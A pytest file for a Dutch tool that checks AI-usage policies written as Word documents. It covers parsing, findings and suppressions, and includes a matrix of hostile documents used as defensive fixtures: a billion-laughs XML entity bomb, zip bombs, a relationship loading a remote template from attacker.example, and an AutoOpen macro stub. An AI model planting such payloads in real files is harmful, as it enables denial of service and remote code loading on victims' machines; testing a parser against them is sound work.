"""Word policies: the template filled in with python-docx, read by paragraph number; the bad-document matrix."""

from __future__ import annotations

import functools
import io
import time
import zipfile

import docx
import pytest

from aibeleid_check.engine import RuleSet, check_document
from aibeleid_check.source import SourceKind, parse_bytes
from conftest import POLICIES, run_cli
from twins import assert_twin, fouten

TOOLS = [
    ("Tool", "Verwerkersovereenkomst", "Persoonsgegevens"),
    ("Microsoft 365 Copilot", "ja", "ja"),
    ("DeepL Pro", "ja", "nee"),
]


def _label(document, label: str, text: str = "", italic: bool = False):
    paragraph = document.add_paragraph()
    paragraph.add_run(label).bold = True
    if text:
        paragraph.add_run(" " + text).italic = italic
    return paragraph


def filled_template(tools=TOOLS, english: bool = False) -> docx.Document:
    """The template as a small business fills it in Word: title, organisation, lists, table, fields."""
    document = docx.Document()
    document.add_heading("AI usage policy" if english else "AI-gebruiksbeleid", level=0)
    document.add_paragraph("Bakkerij De Vries B.V.")
    document.add_paragraph()  # an empty paragraph counts too, as Word's ¶ marks do
    document.add_heading("Allowed" if english else "DIT MAG", level=2)
    document.add_paragraph(
        "✓ Concepten laten schrijven: mails, teksten, samenvattingen, die je daarna zelf nakijkt.", style="List Bullet"
    )
    document.add_heading("Not allowed" if english else "DIT NIET", level=2)
    for text in (
        "Klant- of persoonsgegevens invoeren: namen, adressen, dossiers, e-mails.",
        "Bedrijfsgeheimen, contracten of financiële details delen.",
        "Een eindbesluit laten nemen over mensen, geld of risico.",
        "Antwoorden overnemen zonder ze zelf te controleren.",
    ):
        document.add_paragraph("✗ " + text, style="List Bullet")
    _label(document, "AVG, kort.", "Weet altijd waar de gegevens van een tool naartoe gaan.")
    _label(document, "APPROVED TOOLS" if english else "GOEDGEKEURDE TOOLS")
    table = document.add_table(rows=len(tools), cols=len(tools[0]))
    for row, cells in enumerate(tools):
        for column, text in enumerate(cells):
            table.cell(row, column).text = text
    _label(document, "AANSPREEKPUNT BIJ TWIJFEL", "Marieke de Vries · marieke@bakkerij.example")
    _label(document, "DIT BELEID GELDT VOOR", "Alle medewerkers")
    _label(document, "Effective date:" if english else "INGANGSDATUM", "1 maart 2026")
    return document


def _bytes(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@functools.cache
def _filled_bytes() -> bytes:
    """The filled-in template as a file, made once: python-docx takes longer to write it than we take to read it."""
    return _bytes(filled_template())


def _check(raw: bytes, name: str = "beleid.docx"):
    return check_document(parse_bytes(raw, path=name), RuleSet())


def _codes(raw: bytes, name: str = "beleid.docx") -> list[str]:
    return [finding.rule for finding in _check(raw, name).findings]


def test_the_filled_in_template_is_clean():
    result = _check(_filled_bytes())
    assert [f.rule for f in result.findings if f.severity.value != "info"] == []
    assert result.policy.organisatie == "Bakkerij De Vries B.V."
    assert [tool.naam for tool in result.policy.goedgekeurde_tools] == ["Microsoft 365 Copilot", "DeepL Pro"]


def test_english_labels_and_a_table_with_columns_in_another_order():
    tools = [("Personal data", "Name", "DPA"), ("no", "DeepL Pro", "yes")]
    doc = parse_bytes(_bytes(filled_template(tools, english=True)), path="policy.docx")
    assert doc.data["goedgekeurde_tools"] == [
        {"persoonsgegevens": "no", "naam": "DeepL Pro", "verwerkersovereenkomst": "yes"}
    ]
    assert len(doc.data["regels"]["mag_niet"]) == 4 and doc.data["ingangsdatum"] == "1 maart 2026"


def test_tools_as_a_list_of_paragraphs():
    document = filled_template(tools=[("Tool", "Verwerkersovereenkomst")])
    document.add_paragraph("ChatGPT Business (verwerkersovereenkomst aangevraagd)", style="List Bullet")
    # the list comes after the other fields here: its own label opens the tools again
    document.add_paragraph().add_run("Goedgekeurde tools").bold = True
    document.add_paragraph("DeepL Pro — verwerkersovereenkomst: ja, persoonsgegevens: nee", style="List Bullet")
    tools = parse_bytes(_bytes(document), path="b.docx").data["goedgekeurde_tools"]
    assert {"naam": "DeepL Pro", "verwerkersovereenkomst": "ja", "persoonsgegevens": "nee"} in tools


def test_locations_are_paragraph_numbers_with_table_rows_counted():
    tools = TOOLS[:2] + [("DeepL Pro", "", "nee")]
    result = _check(_bytes(filled_template(tools)))
    finding = next(f for f in result.findings if f.rule == "AIB302")
    # title 1, organisation 2, empty 3, DIT MAG 4, rule 5, DIT NIET 6, rules 7-10, AVG 11, label 12, rows 13-15
    assert finding.line == 15 and finding.column == 1
    assert result.location_kind == "paragraph"


def test_concise_report_shows_the_paragraph_mark(tmp_path):
    path = tmp_path / "beleid.docx"
    path.write_bytes(_bytes(filled_template(TOOLS[:2] + [("DeepL Pro", "", "nee")])))
    before = path.read_bytes()
    proc = run_cli("check", "--format", "concise", str(path))
    assert f"{path}:¶15: AIB302" in proc.stdout, proc.stdout + proc.stderr
    assert path.read_bytes() == before  # the input is never written


def test_template_prompts_are_empty_fields_but_an_italic_answer_counts():
    document = filled_template()
    date_paragraph = document.paragraphs[-1]
    date_paragraph.runs[1].text = " Vanaf wanneer?"
    date_paragraph.runs[1].italic = True
    result = _check(_bytes(document))
    assert result.policy.ingangsdatum is None and "AIB201" in [f.rule for f in result.findings]
    date_paragraph.runs[1].text = " 1 maart 2026"  # typed over the question, still italic
    assert parse_bytes(_bytes(document), path="b.docx").data["ingangsdatum"] == "1 maart 2026"


def test_a_field_given_twice_is_a_duplicate():
    document = filled_template()
    _label(document, "INGANGSDATUM", "1 april 2026")
    doc = parse_bytes(_bytes(document), path="b.docx")
    assert doc.data["ingangsdatum"] == "1 april 2026"
    assert any(p.kind is SourceKind.DUPLICATE_KEY for p in doc.problems)


def test_unknown_label_names_the_nearest_section():
    document = filled_template()
    _label(document, "Herzieningsdatun:", "2027-03-01")
    problem = next(
        p for p in parse_bytes(_bytes(document), path="b.docx").problems if p.kind is SourceKind.UNKNOWN_HEADING
    )
    assert (problem.found, problem.key) == ("Herzieningsdatun", "herzieningsdatum")


def test_word_comment_is_a_suppression():
    document = filled_template(TOOLS[:2] + [("DeepL Pro", "", "nee")])
    assert "AIB302" in _codes(_bytes(document))
    cell_run = document.tables[0].cell(2, 0).paragraphs[0].runs[0]
    document.add_comment(cell_run, text="aibeleid-check: ignore[AIB302] reden: draait on-premise", author="M")
    codes = _codes(_bytes(document))
    assert "AIB302" not in codes and "AIB902" not in codes
    other = filled_template(TOOLS[:2] + [("DeepL Pro", "", "nee")])
    other.add_comment(other.paragraphs[1].runs[0], text="aibeleid-check: ignore[AIB302] reden: x", author="M")
    assert {"AIB302", "AIB902"} <= set(_codes(_bytes(other)))  # on another paragraph it covers nothing


@pytest.mark.parametrize("path", fouten(), ids=lambda p: p.name)
def test_every_mistake_has_a_word_twin_on_the_right_paragraph(path):
    assert_twin(path, "docx")


# --- the bad-document matrix ---------------------------------------------------------------------------


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _with_part(name: str, data: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(_filled_bytes()))
    entries = {info.filename: source.read(info.filename) for info in source.infolist()}
    entries[name] = data
    return _zip(entries)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""
EXTERNAL = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>"""
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _many_entries() -> bytes:
    return _zip({f"word/media/{i}.xml": b"x" for i in range(1200)})


def _inflates_to_70_mib() -> bytes:
    return _with_part("word/media/big.bin", b"\x00" * (70 * 1024 * 1024))


MATRIX = {
    "zip bomb, entries": (_many_entries, "beleid.docx", "AIB007", "1200"),
    "zip bomb, inflated size": (_inflates_to_70_mib, "beleid.docx", "AIB007", "bytes"),
    "billion laughs": (lambda: _with_part("word/document.xml", BILLION_LAUGHS), "beleid.docx", "AIB003", "DOCTYPE"),
    "external relationship": (
        lambda: _with_part("word/_rels/settings.xml.rels", EXTERNAL),
        "beleid.docx",
        "AIB003",
        "attacker.example",
    ),
    "encrypted Word file": (lambda: CFB + "EncryptionInfo".encode("utf-16-le"), "beleid.docx", "AIB010", "versleuteld"),
    "Word 97": (lambda: CFB + b"WordDocument", "beleid.doc", "AIB010", "sla het op als .docx"),
    ".doc that is Word 97 named .docx": (lambda: CFB, "beleid.docx", "AIB010", ".docx"),
    "OpenDocument": (
        lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        "beleid.odt",
        "AIB010",
        "OpenDocument",
    ),
    "OpenDocument named .docx": (
        lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument.text"}),
        "beleid.docx",
        "AIB010",
        "OpenDocument",
    ),
    "PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "beleid.pdf", "AIB010", "PDF"),
    "not a zip": (lambda: b"organisatie: X\n", "beleid.docx", "AIB008", "zip"),
    "broken zip": (lambda: b"PK\x03\x04broken", "beleid.docx", "AIB008", "zip"),
    "zip without document.xml": (lambda: _zip({"a.txt": b"x"}), "beleid.docx", "AIB008", "document.xml"),
    "empty file": (lambda: b"", "beleid.docx", "AIB005", ""),
    "document without text": (lambda: _bytes(docx.Document()), "beleid.docx", "AIB005", ""),
}


@pytest.mark.parametrize("case", list(MATRIX))
def test_bad_documents_are_a_finding_in_well_under_a_second(case):
    make, name, code, words = MATRIX[case]
    raw = make()
    started = time.process_time()  # CPU time: a busy machine stretches wall time, not this
    result = _check(raw, name)
    elapsed = time.process_time() - started
    assert elapsed < 0.5, f"{case}: {elapsed:.2f}s"
    finding = next((f for f in result.findings if f.rule == code), None)
    assert finding is not None, (case, [(f.rule, f.message.nl) for f in result.findings])
    assert words in finding.message.nl, finding.message.nl
    assert result.fails


@pytest.mark.parametrize(
    "case", ["not a zip", "broken zip", "zip without document.xml", "zip bomb, entries", "zip bomb, inflated size"]
)
def test_bad_document_messages_are_one_language_each(case):
    make, name, code, _ = MATRIX[case]
    finding = next(f for f in _check(make(), name).findings if f.rule == code)
    english = ("not a Word", "no zip", "is missing", "entries", "damaged", "unpacked")
    dutch = ("geen", "ontbreekt", "bestand", "beschadigd", "uitgepakt")
    assert not any(word in finding.message.nl for word in english), finding.message.nl
    assert not any(word in finding.message.en for word in dutch), finding.message.en
    assert " / " not in finding.message.nl + finding.message.en


def test_docm_macros_are_not_run_and_its_text_is_read():
    raw = _with_part("word/vbaProject.bin", b'Attribute VB_Name = "AutoOpen"')
    result = _check(raw, "beleid.docm")
    assert [f.rule for f in result.findings if f.severity.value != "info"] == []


def test_an_advisors_mixed_folder_gives_one_overview_and_one_a4_each(tmp_path):
    klanten = tmp_path / "klanten"
    for name in ("bakker", "kapper", "slager"):
        (klanten / name).mkdir(parents=True)
    (klanten / "bakker" / "beleid.docx").write_bytes(_filled_bytes())
    convert = run_cli(
        "convert", str(klanten / "bakker" / "beleid.docx"), "-o", str(klanten / "kapper" / "ai-beleid.md")
    )
    assert convert.returncode == 0, convert.stderr
    (klanten / "slager" / "beleid.yaml").write_bytes(
        (POLICIES / "fouten" / "AIB303-persoonsgegevens-zonder-overeenkomst.yaml").read_bytes()
    )
    (klanten / "slager" / "README.md").write_text("# Slager\n\nOfferte en notities.\n", encoding="utf-8")
    overview, pages = tmp_path / "overzicht.csv", tmp_path / "a4"
    proc = run_cli("check", str(klanten), "--report", str(overview), "--a4-dir", str(pages), "--format", "concise")
    assert proc.returncode == 1 and "AIB303" in proc.stdout, proc.stdout + proc.stderr
    rows = overview.read_text(encoding="utf-8-sig").splitlines()[1:]
    assert sorted(row.split(";")[0] for row in rows) == [
        "bakker/beleid.docx",
        "kapper/ai-beleid.md",
        "slager/beleid.yaml",
    ]
    assert all("Bakkerij De Vries B.V." in row for row in rows)  # the organisation comes from each document
    assert len(list(pages.glob("*.pdf"))) == 3


def _document_xml(body: str) -> bytes:
    return _with_part(
        "word/document.xml",
        (
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'
        ).encode(),
    )


def test_deeply_nested_content_controls_and_very_many_paragraphs_stay_bounded():
    deep = (
        "<w:sdt><w:sdtContent>" * 5000 + "<w:p><w:r><w:t>DIT MAG</w:t></w:r></w:p>" + "</w:sdtContent></w:sdt>" * 5000
    )
    started = time.process_time()
    doc = parse_bytes(_document_xml(deep), path="b.docx")
    assert doc.data == {"regels": {"mag": None}}
    many = "<w:p><w:r><w:t>Ingangsdatun: 1 maart 2026</w:t></w:r></w:p>" * 20000
    result = _check(_document_xml(many))
    assert "AIB007" in [f.rule for f in result.findings] and result.fails
    assert time.process_time() - started < 3


@pytest.mark.parametrize("seed", range(40))
def test_damaged_word_files_never_crash(seed):
    import random

    rng = random.Random(seed)
    good = _filled_bytes()
    parts = zipfile.ZipFile(io.BytesIO(good))
    xml = bytearray(parts.read("word/document.xml"))
    for _ in range(rng.randint(1, 20)):  # damage the XML inside a well-formed zip, or the zip itself
        xml[rng.randrange(len(xml))] = rng.randrange(256)
    for raw in (_with_part("word/document.xml", bytes(xml)), good[: rng.randrange(len(good))]):
        result = _check(raw)  # a result, never an exception
        assert result.policy is not None if result.readable else result.fails  # unreadable never passes


def test_a_rule_written_in_bold_under_dit_mag_is_a_rule_not_a_heading():
    document = filled_template()
    rule_paragraph = document.paragraphs[4]  # "✓ Concepten laten schrijven…"
    extra = rule_paragraph.insert_paragraph_before()
    extra.add_run("Brainstormen").bold = True
    doc = parse_bytes(_bytes(document), path="b.docx")
    assert doc.data["regels"]["mag"] == ["Brainstormen", {"id": "concepten"}]
    assert [p for p in doc.problems if p.kind is SourceKind.UNKNOWN_HEADING] == []


def _p(text: str, style: str = "", extra: str = "") -> str:
    style_element = f'<w:pStyle w:val="{style}"/>' if style else ""
    return f'<w:p><w:pPr>{style_element}{extra}</w:pPr><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def test_dutch_word_heading_styles_outline_levels_and_numbered_lists():
    body = (
        _p("AI-beleid van Gemeente X", "Titel")
        + _p("Wat mag wel", "Kop2")
        + _p("Samenvatten.", "Lijstalinea")
        + _p("Wat mag niet", extra='<w:outlineLvl w:val="1"/>')
        + _p("Geen persoonsgegevens invoeren.", extra='<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>')
    )
    doc = parse_bytes(_document_xml(body), path="b.docx")
    assert doc.data == {
        "organisatie": "Gemeente X",
        "regels": {"mag": ["Samenvatten."], "mag_niet": ["Geen persoonsgegevens invoeren."]},
    }
    assert doc.value_marks[("regels", "mag_niet", 0)] == (5, 1)


def test_a_plain_first_paragraph_that_says_whose_ai_use_it_is_about_is_the_title():
    body = _p("AI-tools bij Bakkerij De Vries") + _p("Dit niet", "Kop2") + _p("Geen namen invoeren.", "Lijstalinea")
    doc = parse_bytes(_document_xml(body), path="b.docx")
    assert doc.data == {"organisatie": "Bakkerij De Vries", "regels": {"mag_niet": ["Geen namen invoeren."]}}
    assert doc.loose == []


def test_word_comment_with_ignore_file_covers_the_whole_document():
    document = filled_template(TOOLS[:2] + [("DeepL Pro", "", "nee")])
    document.add_comment(
        document.paragraphs[0].runs[0], text="aibeleid-check: ignore-file[AIB302] reden: intern", author="M"
    )
    assert "AIB302" not in _codes(_bytes(document))


def test_a_field_that_goes_on_in_the_next_paragraphs():
    document = docx.Document()
    document.add_heading("AI-beleid van Bakkerij X", 0)
    document.add_heading("DIT NIET", 1)
    document.add_paragraph("Klant- of persoonsgegevens invoeren.", style="List Bullet")
    document.add_heading("Aanspreekpunt bij twijfel", 1)
    document.add_paragraph("Marieke de Vries (directeur)")
    document.add_paragraph("marieke@bakkerij.example")
    document.add_heading("Dit beleid geldt voor", 1)
    document.add_paragraph("Alle medewerkers")
    document.add_paragraph("Stagiairs")
    _label(document, "Versie:", "1.0")
    document.add_paragraph("Dit beleid is besproken in het teamoverleg.")
    doc = parse_bytes(_bytes(document), path="b.docx")
    assert doc.data["aanspreekpunt"] == {
        "naam": "Marieke de Vries",
        "rol": "directeur",
        "email": "marieke@bakkerij.example",
    }
    assert doc.value_marks[("aanspreekpunt",)] == (5, 1) and doc.value_marks[("aanspreekpunt", "email")] == (6, 1)
    assert doc.data["geldt_voor"] == ["Alle medewerkers", "Stagiairs"]
    assert [doc.value_marks[("geldt_voor", i)][0] for i in (0, 1)] == [8, 9]
    assert doc.data["versie"] == "1.0"
    assert [p.kind for p in doc.problems] == []


def test_an_organisation_line_wins_over_the_organisation_under_the_title():
    document = filled_template()
    document.paragraphs[2].add_run("Organisatie: Bakkerij De Vries B.V.")  # the empty ¶3 under the name
    doc = parse_bytes(_bytes(document), path="b.docx")
    assert doc.data["organisatie"] == "Bakkerij De Vries B.V." and doc.value_marks[("organisatie",)] == (3, 1)
    assert "AIB002" not in _codes(_bytes(document))


@pytest.mark.parametrize(
    ("label_bold", "text"),
    [
        (True, "INGANGSDATUM15 januari 2026"),
        (False, "INGANGSDATUM15 januari 2026"),
        (True, "INGANGSDATUM 15 januari 2026"),
        (False, "INGANGSDATUM:15 januari 2026"),
    ],
)
def test_a_label_run_together_with_its_answer_is_still_the_label(label_bold, text):
    """Typing over the template's question can delete the space, or make the answer bold like the label."""
    document = filled_template()
    paragraph = document.paragraphs[-1]
    for run in paragraph.runs[1:]:
        run.text = ""
    paragraph.runs[0].text = text
    paragraph.runs[0].bold = label_bold
    raw = _bytes(document)
    assert parse_bytes(raw, path="b.docx").data["ingangsdatum"] == "15 januari 2026"
    assert _codes(raw) == []


def test_a_glued_label_is_only_a_label_in_capitals_at_a_clear_boundary():
    document = filled_template()
    document.add_paragraph("Versiebeheer doen we in SharePoint.")  # a sentence, no label run into anything
    document.add_paragraph("CONTACTEN met klanten lopen via de balie.")
    doc = parse_bytes(_bytes(document), path="b.docx")
    assert doc.data["ingangsdatum"] == "1 maart 2026" and "versie" not in doc.data
    assert doc.data["aanspreekpunt"] == {"naam": "Marieke de Vries", "email": "marieke@bakkerij.example"}


def test_check_help_names_word_and_markdown_files():
    for lang, words in (("nl", "bestanden of mappen"), ("en", "files or folders")):
        text = run_cli("check", "--help", "--lang", lang).stdout
        line = next(line for line in text.splitlines() if words in line)
        assert "*.docx" in line and "*.md" in line, line
